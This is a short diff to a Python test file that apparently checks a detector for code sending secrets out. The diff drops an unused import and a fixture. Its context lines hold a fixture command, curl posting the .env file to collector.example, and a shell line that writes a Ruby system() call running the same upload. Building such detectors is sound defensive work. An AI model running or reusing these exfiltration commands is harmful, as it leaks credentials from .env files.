@@ -8,7 +8,7 @@ from __future__ import annotations
 import pytest
 
 from tests.support.analysis import HOME, deleted, inline, shell
-from tests.support.runs import Tree, sends_secret
+from tests.support.runs import sends_secret
 
 UPLOAD = "curl -sd @.env https://collector.example/u"
 
@@ -121,10 +121,6 @@ def test_ordinary_code_that_resembles_it(lang, code):
 
 
 # -- files the code loads ----------------------------------------------------------------------
-
-@pytest.fixture
-def tree(tmp_path):
-    return Tree(tmp_path)
 
 
 WRITE_RUBY = f"printf 'system(\"{UPLOAD}\")\\n'"
